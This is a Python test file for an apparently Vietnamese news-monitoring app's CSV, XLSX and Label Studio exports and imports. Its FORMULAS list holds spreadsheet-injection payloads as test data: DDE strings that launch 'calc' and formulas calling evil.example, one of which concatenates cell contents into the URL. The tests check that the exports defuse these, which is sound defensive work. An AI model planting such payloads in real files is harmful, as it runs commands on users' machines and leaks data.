"""Files of a list: what a spreadsheet would calculate stays text, numbers stay numbers; labels to and from Label Studio."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import knowledge
import store
from desk import exports, label_studio
from records import BadInput, Judged, Placement, Reason, Signature
from tests.desk_support import NOW, Rig, assessment, document, rig, token

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "  \u00a0=1+1", "\"=1+1", "'=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "a;=1+1", 'a";=1+1;"', "a,=1+1", 'a",=1+1,"', "a\n=1+1", "=1+1;=2+2", "%0A=1+1", "|calc", "\u200b=1+1", "\ufeff=1+1",
    "(=1+1)", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "\x00=1+1", "=" * 40_000, "-2+3+cmd|' /C calc'!A0",
    "“=1+1”", "…=1+1",
]  # fmt: skip
KNOWN = knowledge.load()


@pytest.fixture
def desk(tmp_path: Path) -> Rig:
    return rig(tmp_path)


def judged(desk: Rig, title: str) -> Judged:
    return replace(one := sample(desk), document=replace(one.document, title=title, lead=title, outlet=title))


def sample(desk: Rig) -> Judged:
    found = desk.store.judged.get(document(1).key)
    assert found
    return found


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_no_text_of_a_csv_begins_as_a_formula(desk: Rig) -> None:
    rows = read_csv(b"".join(exports.as_csv([judged(desk, text) for text in FORMULAS], KNOWN)))
    assert len(rows) == len(FORMULAS) + 1 and all(len(row) == len(exports.COLUMNS) for row in rows)
    for row in rows[1:]:
        for cell in (row[5], row[6], row[3]):
            assert not exports.RISKY.match(cell) or cell.startswith("'"), cell


@given(st.text(max_size=60) | st.text("a;='+- \"|", max_size=12))
def test_a_text_comes_back_from_a_csv(text: str) -> None:
    cell = exports.harmless(text)
    assert isinstance(cell, str)
    assert exports.original(cell) == exports.printable(text)


def test_a_semicolon_splits_no_cell_into_a_formula(desk: Rig) -> None:
    """A spreadsheet that takes ";" for the separator still sees quoted cells."""
    content = b"".join(exports.as_csv([judged(desk, text) for text in FORMULAS], KNOWN)).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(content), delimiter=";"):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row


def test_numbers_stay_numbers(desk: Rig) -> None:
    one = sample(desk)
    odd = replace(
        one, document=replace(one.document, reach=-5), assessment=replace(one.assessment, relevance_score=-0.25)
    )
    (_, row) = read_csv(b"".join(exports.as_csv([odd], KNOWN)))
    assert (row[exports.COLUMNS.index("Lượt tương tác")], row[exports.COLUMNS.index("Điểm liên quan")]) == (
        "-5",
        "-0.25",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(exports.as_xlsx([odd], KNOWN))).active
    values = [cell.value for cell in sheet[2]]
    assert values[exports.COLUMNS.index("Lượt tương tác")] == -5
    assert values[exports.COLUMNS.index("Điểm liên quan")] == -0.25


def test_an_xlsx_holds_text_and_no_formula(desk: Rig) -> None:
    content = exports.as_xlsx([judged(desk, text) for text in FORMULAS], KNOWN)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for number, text in enumerate(FORMULAS, 2):
        cell = sheet.cell(number, 6)
        assert cell.data_type == "s" and cell.value == exports.printable(text)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_libreoffice_calculates_nothing(desk: Rig, tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_bytes(b"".join(exports.as_csv([judged(desk, text) for text in FORMULAS], KNOWN)))
    run = ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "x.csv")]
    subprocess.run(run, check=True, timeout=120, env={"HOME": str(tmp_path)})
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl"])
def test_a_list_is_exported_as_it_is_filtered(desk: Rig, form: str) -> None:
    answer = desk.client("analyst").get(f"/xuat/{form}?phan_anh=complaint")
    assert answer.status_code == 200 and f'filename="lang-nghe.{form}"' in answer.headers["content-disposition"]
    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        titles = [row[5].value for row in sheet.iter_rows(min_row=2)]
    elif form == "csv":
        titles = [row[5] for row in read_csv(answer.content)[1:]]
    else:
        titles = [json.loads(line)["Tiêu đề"] for line in answer.text.splitlines()]
    assert len(titles) == 1 and "Chờ ba tháng" in titles[0]
    assert desk.store.audit_log(1)[0].what == "xuất danh sách"


def test_an_export_shows_no_more_than_the_list(desk: Rig) -> None:
    assert "mạo danh" not in desk.client("province").get("/xuat/csv").text
    assert desk.client("viewer").get("/xuat/csv").status_code == 403
    assert "author" not in " ".join(exports.COLUMNS).lower()


def test_an_export_ends(desk: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "AT_ONCE", 1)
    monkeypatch.setattr(exports, "MOST", 3)
    assert len(list(exports.items(desk.store, store.Filter()))) == 3


def labelled(desk: Rig) -> None:
    client = desk.client("analyst")
    item = f"/tin/{store.short_id(document(3).key)}"
    form = {"token": token(client.get(item).text)}
    client.post(f"{item}/nhan", data=form | {"task": "sentiment", "new": "positive"})
    client.post(f"{item}/nhan", data=form | {"task": "topics", "new": ["bhyt_kcb", "luong_huu"]})


def upload(desk: Rig, content: bytes, login: str = "analyst") -> tuple[int, str]:
    client = desk.client(login)
    data = {"token": token(client.get("/nhan").text)}
    answer = client.post("/nhan", data=data, files={"file": ("x.json", content)})
    return answer.status_code, answer.text


def test_labels_go_to_label_studio_and_come_back(desk: Rig, tmp_path: Path) -> None:
    labelled(desk)
    content = desk.client("analyst").get("/nhan/label-studio").content
    (task,) = json.loads(content)
    assert task["data"]["key"] == document(3).key and len(task["annotations"]) == 2
    assert task["predictions"][0]["model_version"] == "thử-1"
    (tmp_path / "khac").mkdir()
    other = rig(tmp_path / "khac")
    status, text = upload(other, content)
    assert status == 200 and "Đã thêm 2 nhãn mới" in text
    found = other.store.judged.get(document(3).key)
    assert found and found.labels == {"sentiment": "positive", "topics": "bhyt_kcb;luong_huu"}
    assert other.store.labels.all()[0].by == "analyst"
    assert "Đã thêm 0 nhãn mới; 2 nhãn bỏ qua" in upload(other, content)[1]


def task(
    key: object = None, name: object = "sentiment", values: object = ("positive",), kind: str = "choices"
) -> object:
    result = {"from_name": name, "to_name": "text", "type": kind, "value": {"choices": values}}
    return {"data": {"key": key or document(3).key}, "annotations": [{"result": [result]}]}


@pytest.mark.parametrize(
    "content",
    [
        b"", b"{}", b"[1]", b'[{"data": {}}]', b"[" * 5000, b"\xff", json.dumps([task(values=[])]).encode(),
        json.dumps([task(name="password")]).encode(), json.dumps([task(values=["không có"])]).encode(),
        json.dumps([task(values=["positive", "negative"])]).encode(), json.dumps([task(key={"a": 1})]).encode(),
        json.dumps([task(), task(values=[1])]).encode(),
    ],
)  # fmt: skip
def test_a_file_that_is_none_changes_nothing(desk: Rig, content: bytes) -> None:
    status, text = upload(desk, content)
    assert status == 422 and "Chưa nhập được" in text
    assert desk.store.labels.all() == []


def test_what_the_store_does_not_know_is_skipped(desk: Rig) -> None:
    status, text = upload(desk, json.dumps([task(key="https://la.example/"), task()]).encode())
    assert status == 200 and "Đã thêm 1 nhãn mới" in text and "(1 tin)" in text
    assert list(label_studio.answers([task(kind="rectangle")])) == []
    with pytest.raises(BadInput):
        list(label_studio.answers("x"))


def test_a_story_of_hostile_titles_leaves_the_desk_whole(desk: Rig) -> None:
    for number, title in enumerate(FORMULAS[:10], 50):
        one = document(number, title=title)
        desk.store.documents.keep(one)
        placed = Placement(f"s-{number}", None, Signature((number,), (1,), {"x": 1.0}))
        desk.store.settle(one, assessment(one.key), placed, Reason("daily", "t", title), [], NOW)
    rows = read_csv(desk.client("analyst").get("/xuat/csv").content)
    assert len(rows) == 15
